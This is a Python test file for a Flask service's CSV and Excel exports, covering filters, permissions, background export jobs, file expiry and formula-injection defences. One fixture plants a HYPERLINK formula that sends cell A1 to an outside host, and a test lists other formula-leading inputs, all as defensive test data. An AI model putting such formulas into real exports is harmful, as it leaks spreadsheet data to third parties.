"""Lists as files: with the filters they are shown with, only what one may see, and nothing that a program runs."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta

import pytest
import time_machine
from flask import Flask
from openpyxl import load_workbook

from service import clock, handlers
from service.config import Settings
from service.models import Export, Incident, Instance
from service.queries import spreadsheet
from service.upkeep import Upkeep
from tests import rows
from tests.commands.conftest import Office
from tests.web.conftest import Browser, path_of, text

Open = Callable[..., Browser]
FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


@pytest.fixture
def desk(office: Office) -> Office:
    """A desk with more tasks than one page of an export, and one whose title somebody meant for a spreadsheet."""
    people = office.people
    with office.database.transaction() as session:
        people.session = session
        of = rows.definition(session, people.authority().id, "demo", name="示例流程")
        group = [(people.organisation("coop"), "coop.intake")]
        for number in range(205):
            title = FORMULA if number == 7 else f"海洋{number}" if number % 2 else f"高原{number}"
            rows.task(session, rows.instance(session, of, title=title), groups=group, name="审查")
        people.session = None
    return office


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_whole_list_is_exported_with_its_filters(desk: Office, browser: Open) -> None:
    li = browser("li")
    answer = li.get("/export/inbox.csv?box=group")
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert "guohe-inbox-" in answer.headers["Content-Disposition"]
    assert answer.data.startswith(b"\xef\xbb\xbf"), "spreadsheet programs take it for UTF-8"
    lines = read(answer.data)
    assert lines[0][:3] == ["事项", "案号", "案件"]
    assert len(lines) == 206
    assert len({line[1] for line in lines}) == 206, "no line twice, none left out"
    narrowed = read(li.get("/export/inbox.csv?box=group&q=高原").data)
    assert len(narrowed) == 104
    assert all("高原" in line[2] for line in narrowed[1:])
    assert "/export/inbox.csv?box=group&amp;q=" in li.get("/inbox?box=group&q=高原").text


def test_a_workbook_says_the_same(desk: Office, browser: Open) -> None:
    li = browser("li")
    book = load_workbook(io.BytesIO(li.get("/export/inbox.xlsx?box=group&q=海洋").data))
    sheet = book["收件箱"]
    assert [cell.value for cell in sheet[1]][:3] == ["事项", "案号", "案件"]
    assert sheet.max_row == 102
    assert sheet.freeze_panes == "A2"


def test_nothing_that_somebody_typed_becomes_a_formula(desk: Office, browser: Open) -> None:
    li = browser("li")
    (line,) = [one for one in read(li.get("/export/cases.csv").data) if "HYPERLINK" in one[1]]
    assert line[1] == f"'{FORMULA}"
    book = load_workbook(io.BytesIO(li.get("/export/cases.xlsx").data))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert f"'{FORMULA}" in [cell.value for cell in cells]


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"])
def test_every_beginning_of_a_formula_is_made_harmless(typed: str) -> None:
    assert spreadsheet.harmless(typed) == f"'{typed}"
    assert next(iter(spreadsheet.csv_lines([[typed]]))).lstrip("\ufeff").lstrip('"').startswith("'")
    file = io.BytesIO()
    spreadsheet.workbook([["head"], [typed + "\x07"]], file, title="a/b")
    assert load_workbook(file).active["A2"].data_type == "s"


def test_an_export_shows_nobody_more_than_the_list_does(desk: Office, browser: Open) -> None:
    assert len(read(browser("wang").get("/export/inbox.csv?box=group").data)) == 1
    assert len(read(browser("wang").get("/export/cases.csv").data)) == 1
    li = browser("li")
    assert li.get("/export/users.csv").status_code == 404
    assert li.get("/export/inbox.exe").status_code == 404
    assert li.get("/export/inbox.csv?box=nonsense").status_code == 404
    assert read(li.get("/export/register.csv").data)[0][0] == "编号"


@pytest.fixture
def long(desk: Office, app: Flask, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> Office:
    """The same desk, where more than a hundred rows are long and a part is one page."""
    monkeypatch.setattr("service.handlers.exports.PAGES", 1)
    desk.settings = desk.worker.settings = app.config["GUOHE"] = replace(settings, export_rows=100)
    return desk


def test_a_long_list_is_written_by_a_worker_and_waits_for_its_owner(long: Office, browser: Open) -> None:
    li = browser("li")
    offered = li.get("/export/inbox.csv?box=group")
    assert "这个列表超过 100 行" in text(offered)
    assert read(li.get("/export/inbox.csv?box=group&q=海洋100").data)[0][0] == "事项", "a short one comes at once"
    asked = li.post("/export/inbox.csv?box=group")
    assert path_of(asked) == "/exports"
    page = text(li.get("/exports"))
    assert "正在导出，已写入 0 行" in page
    assert long.worker.run_due(limit=1) == 1
    assert "正在导出，已写入 200 / 205 行" in text(li.get("/exports"))
    long.work()
    page = li.get("/exports")
    assert "共 205 行" in text(page)
    assert "保留到" in text(page)
    (export,) = long.rows(Export)
    lines = read(li.get(f"/exports/{export.id}/file").data)
    assert len({line[1] for line in lines}) == 206, "no line twice, none left out"
    assert f"'{FORMULA}" in [line[2] for line in lines]
    assert "“收件箱”已导出，共 205 行" in text(li.get("/notifications"))
    assert 'href="/exports"' in li.get("/notifications").text
    assert browser("zhao").get(f"/exports/{export.id}/file").status_code == 404, "only its owner"


def test_a_killed_worker_loses_one_part_at_most(long: Office, browser: Open) -> None:
    li = browser("li")
    li.post("/export/cases.xlsx?state=all")
    (export,) = long.rows(Export)
    long.worker.run_due(limit=1)
    part = handlers.exports.part_of(long.settings, export.id)
    with part.open("ab") as file:  # what a worker wrote that died before it could say so
        file.write(b'["twice"]\n')
    long.work()
    book = load_workbook(io.BytesIO(li.get(f"/exports/{export.id}/file").data))
    numbers = [row[0].value for row in book.active.iter_rows(min_row=2)]
    assert len(numbers) == len(set(numbers)) == 205
    assert not part.exists()


def test_an_export_can_be_taken_back_and_files_go_when_their_time_is_over(long: Office, browser: Open) -> None:
    li = browser("li")
    li.post("/export/cases.csv?state=all")
    (first,) = long.rows(Export)
    assert browser("zhao").post(f"/exports/{first.id}/remove").status_code == 404
    assert li.post(f"/exports/{first.id}/remove").status_code == 303
    long.work()
    assert long.rows(Export) == []
    for _ in range(3):
        li.post("/export/cases.csv?state=all")
    assert li.post("/export/cases.csv?state=all").status_code == 409
    long.work()
    stored = {one.file_key for one in long.rows(Export)}
    assert None not in stored
    keeper = Upkeep(long.database, long.settings, "test")
    assert keeper.expire() == 0
    with time_machine.travel(clock.now() + timedelta(days=8), tick=False):
        assert keeper.expire() == 3
    assert long.rows(Export) == []
    assert [one for one in long.settings.files.rglob("*") if one.is_file()] == []


def test_an_export_that_fails_again_and_again_says_so(
    long: Office, browser: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    li = browser("li")
    li.post("/export/cases.csv?state=all")

    def full(*_args: object) -> None:
        raise OSError("no space left on device")

    monkeypatch.setattr("service.handlers.exports._append", full)
    with time_machine.travel(clock.now(), tick=False) as clockwork:
        for _ in range(5):
            long.work()
            clockwork.shift(timedelta(hours=1))
        Upkeep(long.database, long.settings, "test").expire()
    assert "导出失败，请重新导出" in text(li.get("/exports"))


def test_the_stuck_list_is_exported_by_administrators_only(desk: Office, browser: Open) -> None:
    with desk.database.transaction() as session:
        case = session.query(Instance).filter_by(title=FORMULA).one()
        session.add(
            Incident(
                authority_id=case.authority_id, instance_id=case.id, cause="no_member", message_zh="角色无人担任。",
                message_en="Nobody holds the role.", element_name="审查", created_at=clock.now(), details="",
            )
        )  # fmt: skip
    admin = browser("admin")
    lines = read(admin.get("/export/stuck.csv").data)
    assert lines[0] == ["案号", "案件", "原因", "说明", "环节", "开始时间", "已持续（小时）"]
    assert [line[1:5] for line in lines[1:]] == [[f"'{FORMULA}", "角色无人担任", "角色无人担任。", "审查"]]
    assert len(read(admin.get("/export/stuck.csv?cause=expression").data)) == 1
    assert "/export/stuck.xlsx?cause=no_member" in admin.get("/cockpit/?cause=no_member").text
    assert browser("li").get("/export/stuck.csv").status_code == 403
